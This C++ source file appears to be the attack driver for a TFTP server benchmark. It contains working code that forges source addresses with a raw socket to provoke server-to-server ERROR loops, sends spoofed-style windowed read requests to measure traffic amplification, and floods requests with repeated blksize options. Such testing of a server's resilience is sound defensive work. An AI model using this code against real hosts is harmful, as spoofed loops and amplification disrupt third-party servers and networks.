// The attacks of the attack benchmark (attacks.sh), one per run, each printing one line of figures.
//   attack error FROM TO           one ERROR datagram from FROM:69 to TO:69 (a raw socket forges
//                                  the source); prints the bytes sent
//   attack window ADDR SECONDS     RRQ "blksize 4096 windowsize 16" and ACK 0, both to ADDR:69 as a
//                                  forged request would send them, then silence: prints the bytes
//                                  sent and the datagrams and bytes that came back in SECONDS
//   attack bound ADDR              RRQ "windowsize 64", 39 x "blksize 4096", "blksize 1024", and
//                                  ACK 0: prints the largest DATA and the first window's bytes
//   attack upload ADDR BYTES       WRQ and BYTES in lock-step 512-byte blocks: prints what
//                                  answered the last block ("ack N" or "error N TEXT")
// Needs root for "error" (raw socket). Every wait is bounded.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <string_view>
#include <vector>

namespace {

using Bytes = std::vector<std::uint8_t>;
using Clock = std::chrono::steady_clock;

struct Fd {
    int fd;
    ~Fd() {
        if (fd >= 0) ::close(fd);
    }
};

sockaddr_in address(const char* text, std::uint16_t port) {
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    if (::inet_pton(AF_INET, text, &a.sin_addr) != 1) {
        std::fprintf(stderr, "not an IPv4 address: %s\n", text);
        std::exit(2);
    }
    return a;
}

void put(Bytes& b, std::string_view text) {
    b.insert(b.end(), text.begin(), text.end());
    b.push_back(0);
}

Bytes request(std::uint8_t opcode, const std::vector<std::string_view>& options) {
    Bytes b{0, opcode};
    put(b, "zorva.bin");
    put(b, "octet");
    for (const auto o : options) put(b, o);
    return b;
}

Bytes ack(std::uint16_t block) {
    return {0, 4, static_cast<std::uint8_t>(block >> 8), static_cast<std::uint8_t>(block)};
}

int send(const Fd& s, const Bytes& b, const sockaddr_in& to) {
    return static_cast<int>(
        ::sendto(s.fd, b.data(), b.size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof to));
}

// One datagram within `wait`, or an empty one.
Bytes receive(const Fd& s, std::chrono::milliseconds wait, sockaddr_in* from = nullptr) {
    pollfd p{s.fd, POLLIN, 0};
    if (::poll(&p, 1, static_cast<int>(wait.count())) <= 0) return {};
    Bytes b(65536);
    socklen_t len = sizeof(sockaddr_in);
    const ssize_t n =
        ::recvfrom(s.fd, b.data(), b.size(), 0, reinterpret_cast<sockaddr*>(from), &len);
    b.resize(n > 0 ? static_cast<std::size_t>(n) : 0);
    return b;
}

Fd client() {
    Fd s{::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0)};
    sockaddr_in any = address("0.0.0.0", 0);
    if (s.fd < 0 || ::bind(s.fd, reinterpret_cast<const sockaddr*>(&any), sizeof any) != 0) {
        std::perror("socket");
        std::exit(1);
    }
    return s;
}

int forged_error(const char* from, const char* to) {
    Bytes payload{0, 5, 0, 0};
    put(payload, "loop");
    iphdr ip{};
    ip.version = 4;
    ip.ihl = sizeof ip / 4;
    ip.ttl = 64;
    ip.protocol = IPPROTO_UDP;
    ip.saddr = address(from, 0).sin_addr.s_addr;
    ip.daddr = address(to, 0).sin_addr.s_addr;
    udphdr udp{};
    udp.source = htons(69);
    udp.dest = htons(69);
    udp.len = htons(static_cast<std::uint16_t>(sizeof udp + payload.size()));
    Bytes packet(sizeof ip + sizeof udp + payload.size());
    ip.tot_len = htons(static_cast<std::uint16_t>(packet.size()));
    std::memcpy(packet.data(), &ip, sizeof ip);
    std::memcpy(packet.data() + sizeof ip, &udp, sizeof udp);
    std::memcpy(packet.data() + sizeof ip + sizeof udp, payload.data(), payload.size());
    const Fd s{::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW)};
    if (s.fd < 0 || send(s, packet, address(to, 0)) != static_cast<int>(packet.size())) {
        std::perror("raw socket");
        return 1;
    }
    std::printf("%zu\n", payload.size());
    return 0;
}

int silent_window(const char* server, int seconds) {
    const Fd s = client();
    const sockaddr_in port69 = address(server, 69);
    const Bytes rrq = request(1, {"blksize", "4096", "windowsize", "16"});
    const int sent = send(s, rrq, port69) + send(s, ack(0), port69);
    long packets = 0, bytes = 0;
    const auto end = Clock::now() + std::chrono::seconds(seconds);
    for (auto now = Clock::now(); now < end; now = Clock::now()) {
        const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(end - now);
        const Bytes b = receive(s, left);
        if (b.empty()) continue;
        ++packets;
        bytes += static_cast<long>(b.size());
    }
    std::printf("%d %ld %ld\n", sent, packets, bytes);
    return 0;
}

int window_bound(const char* server) {
    const Fd s = client();
    std::vector<std::string_view> options{"windowsize", "64"};
    for (int i = 0; i < 39; ++i) options.insert(options.end(), {"blksize", "4096"});
    options.insert(options.end(), {"blksize", "1024"});
    sockaddr_in from{};
    send(s, request(1, options), address(server, 69));
    const Bytes oack = receive(s, std::chrono::seconds(2), &from);
    if (oack.size() < 2 || oack[1] != 6) {
        std::printf("no OACK\n");
        return 1;
    }
    send(s, ack(0), from);
    std::size_t largest = 0, window = 0;
    for (;;) {  // the first window comes at once; the next packet only after an expiry
        const Bytes b = receive(s, std::chrono::milliseconds(500));
        if (b.size() < 4 || b[1] != 3) break;
        largest = std::max(largest, b.size() - 4);
        window += b.size() - 4;
    }
    std::printf("%zu %zu\n", largest, window);
    return 0;
}

int upload(const char* server, long size) {
    const Fd s = client();
    sockaddr_in from{};
    send(s, request(2, {}), address(server, 69));
    Bytes answer = receive(s, std::chrono::seconds(2), &from);
    Bytes data(4 + 512, 'k');
    for (std::uint16_t block = 1;; ++block) {
        if (answer.size() < 4 || answer[1] != 4) break;
        const long offset = static_cast<long>(block - 1) * 512;
        if (offset > size) break;
        const std::size_t n = static_cast<std::size_t>(std::min<long>(512, size - offset));
        data.resize(4 + n);
        data[0] = 0;
        data[1] = 3;
        data[2] = static_cast<std::uint8_t>(block >> 8);
        data[3] = static_cast<std::uint8_t>(block);
        send(s, data, from);
        answer = receive(s, std::chrono::seconds(2));
    }
    if (answer.size() >= 4 && answer[1] == 4)
        std::printf("ack %d\n", answer[2] << 8 | answer[3]);
    else if (answer.size() >= 4 && answer[1] == 5)
        std::printf("error %d %.*s\n", answer[2] << 8 | answer[3],
                    static_cast<int>(
                        ::strnlen(reinterpret_cast<const char*>(&answer[4]), answer.size() - 4)),
                    reinterpret_cast<const char*>(&answer[4]));
    else
        std::printf("nothing\n");
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    const std::string_view what = argc > 1 ? argv[1] : "";
    if (what == "error" && argc == 4) return forged_error(argv[2], argv[3]);
    if (what == "window" && argc == 4) return silent_window(argv[2], std::atoi(argv[3]));
    if (what == "bound" && argc == 3) return window_bound(argv[2]);
    if (what == "upload" && argc == 4) return upload(argv[2], std::atol(argv[3]));
    std::fprintf(stderr,
                 "usage: %s error FROM TO | window ADDR SECONDS | bound ADDR | upload ADDR BYTES\n",
                 argv[0]);
    return 2;
}
